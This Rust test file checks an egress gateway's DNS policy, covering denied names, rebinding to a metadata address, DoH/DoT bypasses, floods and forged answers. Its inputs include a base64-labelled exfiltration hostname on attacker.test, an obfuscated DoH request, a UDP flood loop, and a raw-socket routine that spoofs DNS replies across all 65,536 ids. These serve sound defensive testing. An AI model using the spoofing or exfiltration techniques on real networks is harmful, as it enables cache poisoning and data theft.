//! Gauntlet DN: a name is judged before anybody is asked, and an answer before anybody hears it.

use std::time::Duration;

use socket2::{Domain, Protocol, Type};

use crate::support::dns::{A, AAAA, Answer, CNAME, HTTPS, MX, NS, SOA, SRV, TXT, ask, question};
use crate::support::gate::wait_until;
use crate::support::*;

#[test]
fn dn_01_an_allowed_name_is_answered_and_recorded() {
    let bed = Bed::new(P1);
    assert_eq!(bed.resolve("api.good.test", A).addresses, [PUB1]);
    let of_name = |record: &Record| record.text("door") == "dns" && record.mentions("api.good.test");
    let decision = bed.gate.wait_for_record("the decision", of_name);
    assert_eq!((decision.text("verdict"), decision.text("rule")), ("allow", "good"));
    let end =
        bed.gate.wait_for_record("the end", |record| record.is_end() && record.mentions("api.good.test"));
    assert_eq!((end.text("qname"), end.number("qtype")), ("api.good.test", Some(A.into())));
    assert_eq!((end.text("rcode"), end.0["answers"].to_string()), ("NOERROR", "[\"93.184.216.10\"]".into()));
    assert!(end.number("ttl").is_some_and(|ttl| (1..=300).contains(&ttl)), "{}", end.0);
    assert!(end.number("duration_us").is_some_and(|us| us > 0), "it waited for upstream: {}", end.0);
}

#[test]
fn dn_02_a_denied_name_causes_no_upstream_query() {
    let bed = Bed::new(P1);
    let mark = bed.mark();
    let long = "x7f3kq9z2m5b8w1c4v6n0d3g7h2j5l8p1r4t9y6u.attacker.test";
    for name in ["evil.test", long, "api.good.test.evil.test", "good.test"] {
        for kind in [A, AAAA] {
            for tcp in [false, true] {
                for server in [at(GATE, 53), at(GATE6, 53)] {
                    let reply = ask(&bed.world.agent, server, name, kind, tcp).unwrap();
                    assert!(reply.is_denied(), "{name}: {reply:?}");
                }
            }
        }
    }
    bed.since(mark, 0).no_query();
    for tcp in [false, true] {
        let reply = ask(&bed.world.agent, at(GATE, 53), "api.good.test", A, tcp).unwrap();
        assert_eq!(reply.addresses, [PUB1], "and an allowed one is answered");
    }
    assert_eq!(bed.resolve("api.good.test", AAAA).addresses, [PUB1_V6]);
}

#[test]
fn dn_02_the_refusal_of_a_name_is_recorded() {
    let bed = Bed::new(P1);
    assert!(bed.resolve("evil.test", A).is_denied());
    let record = bed
        .gate
        .wait_for_record("the name", |record| record.text("door") == "dns" && record.mentions("evil.test"));
    assert_eq!((record.text("verdict"), record.text("client")), ("deny", "agent"));
}

#[test]
fn dn_03_a_denied_name_is_denied_whatever_the_type() {
    let bed = Bed::new(P1);
    let mark = bed.mark();
    for kind in [TXT, MX, NS, SRV, CNAME, SOA, HTTPS, 10, 255, 65_280] {
        assert!(bed.resolve("evil.test", kind).is_denied(), "type {kind}");
    }
    bed.since(mark, 0).no_query();
    assert_eq!(
        bed.resolve("api.good.test", TXT).code,
        0,
        "a type that no rule opens is NODATA for an allowed name"
    );
}

#[test]
fn dn_13_the_explicit_door_judges_before_it_resolves() {
    let bed = Bed::new(P1);
    let mark = bed.mark();
    let host = "c2VjcmV0LWRhdGE.attacker.test";
    let answer = bed.explicit().ask(format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n")).unwrap();
    assert_eq!(answer.status, 403);
    assert_eq!(bed.tunnel(&format!("{host}:443")).err(), Some(End::Status(403)));
    let taps = bed.since(mark, 2);
    taps.nothing_upstream().no_query();
}

#[test]
fn dn_15_a_name_that_turns_inward_is_neither_told_nor_dialled() {
    let rule = "[[rule]]\nname = \"rebinding\"\nhosts = [\"rb.good.test\", \"inward.good.test\"]\naction = \"allow\"\n";
    let bed = Bed::new(&format!("{P1}{rule}"));
    bed.world.dns.answer("rb.good.test", Answer::Turns(vec![vec![PUB2], vec![METADATA]]));
    bed.world.dns.set("inward.good.test", &[METADATA]);
    for _ in 0..3 {
        let told = bed.resolve("rb.good.test", A);
        assert!(told.addresses.iter().all(|address| *address == PUB2), "{told:?}");
    }
    assert!(bed.resolve("inward.good.test", A).addresses.is_empty());
    for round in 0..3 {
        let status = bed
            .https(PUB2, "rb.good.test")
            .unwrap()
            .ask(get("rb.good.test", "/"))
            .map(|answer| answer.status);
        assert!(matches!(status, Some(200 | 403 | 502)), "round {round}: {status:?}");
        let status = bed.https(PUB2, "inward.good.test").unwrap().ask(get("inward.good.test", "/"));
        assert!(matches!(status.map(|answer| answer.status), Some(403 | 502)));
    }
    bed.gate.wait_for_record("the guard's word", |record| record.mentions("addr_blocked"));
    let packets = bed.world.capture.packets();
    assert!(!packets.iter().any(|packet| packet.to.ip() == METADATA), "no SYN to it");
}

#[test]
fn dn_20_an_alias_is_judged_by_the_name_that_was_asked() {
    let bed = Bed::new(P1);
    bed.world.dns.answer("files.good.test", Answer::Alias("edge.cdn.test".into()));
    bed.world.dns.set("edge.cdn.test", &[CDN]);
    assert_eq!(bed.resolve("files.good.test", A).addresses, [CDN]);
    bed.gate.wait_for_record("the chain", |record| record.0["chain"] == serde_json::json!(["edge.cdn.test"]));
    let answer = bed.https(CDN, "files.good.test").unwrap().ask(get("files.good.test", "/"));
    assert_eq!(answer.map(|answer| answer.status), Some(200));
}

#[test]
fn dn_33_another_resolver_is_answered_by_the_gate() {
    let bed = Bed::new(P1);
    for tcp in [false, true] {
        let mark = bed.mark();
        if let Ok(reply) = ask(&bed.world.agent, at(EVIL, 53), "evil.test", A, tcp) {
            assert!(reply.is_denied(), "{reply:?}");
        }
        bed.since(mark, 0).no_packet_to(EVIL).no_query();
    }
}

#[test]
fn dn_30_answers_that_are_forged_beside_the_path_are_not_taken() {
    let name = "a-rather-long-name-with-letters-to-spell.good.test";
    let rule = format!("[[rule]]\nname = \"long\"\nhosts = [\"{name}\"]\naction = \"allow\"\n");
    let bed = Bed::new(&rule);
    bed.world.dns.answer(name, Answer::Silence);
    let mark = bed.mark();
    let reply = std::thread::scope(|scope| {
        let asking = scope.spawn(|| ask(&bed.world.agent, at(GATE, 53), name, A, false));
        // The attacker has all the luck there is: it knows the port of the question and tries every id. What is left is
        // the case of the letters, in which the gate asks at random.
        let port = wait_until(Duration::from_secs(4), || {
            let packets = bed.world.capture.packets().split_off(mark.packets());
            packets.iter().find(|packet| packet.outgoing && packet.to == at(DNS, 53)).map(|p| p.from.port())
        });
        forge(&bed, name, port.expect("a question upstream"));
        bed.world.dns.set(name, &[PUB1]);
        asking.join().unwrap()
    });
    // The flood may cost the question its answer; it never gives it another one.
    assert!(reply.is_err() || reply.is_ok_and(|reply| !reply.addresses.contains(&EVIL)));
    let asked = || Some(bed.resolve(name, A).addresses).filter(|addresses| !addresses.is_empty());
    assert_eq!(wait_until(Duration::from_secs(5), asked), Some(vec![PUB1]));
    let answer = bed.https(PUB1, name).unwrap().ask(get(name, "/"));
    assert!(answer.is_some());
    bed.since(mark, 1).no_packet_to(EVIL);
}

/// Sends an answer for each of the 65,536 ids to the gate's socket, in the name server's clothes.
fn forge(bed: &Bed, name: &str, port: u16) {
    let socket = bed.world.lan.socket(Domain::IPV4, Type::RAW, Some(Protocol::from(libc_raw())));
    socket.set_header_included_v4(true).unwrap();
    let mut message = question(name, A);
    message[2] = 0x85;
    message[3] = 0x80;
    message[7] = 1;
    message.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 14, 16, 0, 4, 93, 184, 216, 66]);
    let udp = 8 + message.len();
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0, 93, 184, 216, 53, 93, 184, 216, 1];
    packet.extend([0, 53]);
    packet.extend(port.to_be_bytes());
    packet.extend((udp as u16).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(&message);
    for id in 0..=u16::MAX {
        packet[28..30].copy_from_slice(&id.to_be_bytes());
        // A full queue loses a guess, as it would for an attacker.
        socket.send_to(&packet, &at(GATE_WAN, port).into()).ok();
    }
}

/// `IPPROTO_RAW`
fn libc_raw() -> i32 {
    255
}

#[test]
fn dn_34_dns_over_tls_and_over_quic_go_nowhere() {
    let bed = Bed::with(&Setup { policy: P1.into(), forwarding: true, ..Setup::default() });
    let mark = bed.mark();
    for ip in [PUB1, PUB1_V6, EVIL, DNS] {
        let end = bed.try_tcp(ip, 853).err();
        assert!(matches!(end, Some(End::Refused | End::Reset)), "{ip}: {end:?}");
        let any = if ip.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" };
        for port in [853, 784, 8853] {
            bed.world.agent.udp(any.parse().unwrap()).send_to(&[0xc0; 1200], at(ip, port)).ok();
        }
    }
    bed.since(mark, 0).nothing_upstream().no_query().quiet_wan();
    assert_eq!(bed.resolve("api.good.test", A).addresses, [PUB1], "and the gate's own DNS is there");
}

const DOH: &str = r#"
[[rule]]
name = "a resolver for this workload"
hosts = ["files.good.test"]
action = "allow"
doh = true
"#;

#[test]
fn dn_35_dns_over_https_is_known_on_any_host() {
    let bed = Bed::new(&format!("{}{DOH}", P1.replace(", \"files.good.test\"", "")));
    let asked = "POST /dns-query HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/dns-message\r\n\
                 Content-Length: 4\r\n\r\n\0\0\x01\0";
    let of = |host: &str| asked.replace("HOST", host);
    let mark = bed.mark();
    for host in ["dns.google", "cloudflare-dns.com"] {
        assert_denied(bed.https(EVIL, host), of(host));
    }
    let mut no_name = bed.tls("1.1.1.1");
    no_name.send_name = false;
    assert_denied(bed.tcp(EVIL, 443).secure(&no_name), of("1.1.1.1"));
    bed.since(mark, 3).nothing_upstream().no_query();

    let mark = bed.mark();
    assert_eq!(bed.fetch("api.good.test", of("api.good.test")).unwrap().status, 403);
    bed.since(mark, 1).nothing_upstream().decided("deny", &["doh_denied"]);
    let mark = bed.mark();
    let hidden = "GET /%64ns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB HTTP/1.1\r\n\
                  Host: api.good.test\r\n\r\n";
    assert_eq!(bed.fetch("api.good.test", hidden).unwrap().status, 403);
    bed.since(mark, 1).nothing_upstream().decided("deny", &["doh_denied"]);

    let mark = bed.mark();
    let answer = bed.https(PUB2, "files.good.test").unwrap().ask(of("files.good.test"));
    assert!(answer.is_some_and(|answer| answer.status != 403), "a rule may open it");
    bed.since(mark, 1).decided("allow", &[]);
    bed.control();
}

#[test]
fn dn_40_a_flood_of_one_client_is_dropped_and_counted_and_another_is_served() {
    let bed = Bed::new(P1);
    let patient = |n: usize| {
        let begun = std::time::Instant::now();
        let reply =
            ask(&bed.world.agent2, at("10.77.2.1".parse().unwrap(), 53), "api.good.test", A, n % 8 == 7);
        assert_eq!(reply.unwrap().addresses, [PUB1]);
        begun.elapsed()
    };
    patient(0);
    let before = bed.gate.resident_kib();
    let message = question("evil.test", A);
    let flood = bed.world.agent.udp("0.0.0.0:0".parse().unwrap());
    let mut times = std::thread::scope(|scope| {
        // 20,000 a second, in steps of 10 ms.
        scope.spawn(|| {
            let begun = std::time::Instant::now();
            for step in 1..=300_u32 {
                for _ in 0..200 {
                    flood.send_to(&message, at(GATE, 53)).ok();
                }
                std::thread::park_timeout((Duration::from_millis(10) * step).saturating_sub(begun.elapsed()));
            }
        });
        (0..100).map(patient).collect::<Vec<_>>()
    });
    times.sort();
    println!("the other client's worst of 100 answers beside the flood: {:?}", &times[95..]);
    let grown = bed.gate.resident_kib().saturating_sub(before);
    assert!(grown < 50_000, "{grown} KiB more");
    let metrics = bed.world.gate.sh("curl -s http://127.0.0.1:9180/metrics");
    let line = metrics.lines().find(|line| line.starts_with("outgate_dns_dropped ")).unwrap();
    let dropped: u64 = line.rsplit(' ').next().unwrap().parse().unwrap();
    assert!(dropped > 10_000, "{line}");
}

#[test]
fn a_search_list_finds_the_exact_name_and_no_other() {
    let rule = "[[rule]]\nname = \"the cluster\"\nhosts = [\"*.svc.cluster.local\"]\naction = \"allow\"\n";
    let bed = Bed::new(&format!("{P1}{rule}"));
    bed.world.dns.set("db.ns.svc.cluster.local", &[PUB2]);
    let list = "nameserver 10.77.1.1\nsearch ns.svc.cluster.local svc.cluster.local cluster.local good.test.evil.test\n\
                options ndots:5 timeout:2 attempts:1\n";
    std::fs::write(bed.world.dir.path().join("resolv-10.77.1.1"), list).unwrap();
    let found = bed.succeed("getent ahostsv4 api.good.test");
    assert!(found.starts_with("93.184.216.10 "), "{found}");
    let found = bed.succeed("getent ahostsv4 db");
    assert!(found.starts_with("93.184.216.20 "), "{found}");
    assert!(
        !bed.program("getent ahostsv4 srv").status.success(),
        "a sibling that only its own resolver knows"
    );
    let asked: Vec<String> = bed.world.dns.queries().into_iter().map(|query| query.name).collect();
    for name in &asked {
        let allowed = name.ends_with(".svc.cluster.local") || name == "api.good.test";
        assert!(allowed, "{name} was asked: {asked:?}");
    }
}

#[test]
fn gi_01_a_client_that_leaves_while_its_name_is_looked_up_is_on_record() {
    let bed = Bed::new(P1);
    bed.world.dns.answer("api.good.test", Answer::Silence);
    let mark = bed.mark();
    let mut wire = bed.https(PUB1, "api.good.test").unwrap();
    wire.send(get("api.good.test", "/"));
    wait_until(Duration::from_secs(10), || {
        bed.world.dns.queries().iter().any(|q| q.name == "api.good.test").then_some(())
    })
    .expect("the gate asks for the name");
    drop(wire);
    bed.since(mark, 1).nothing_upstream().decided("deny", &["client_gone"]);
}
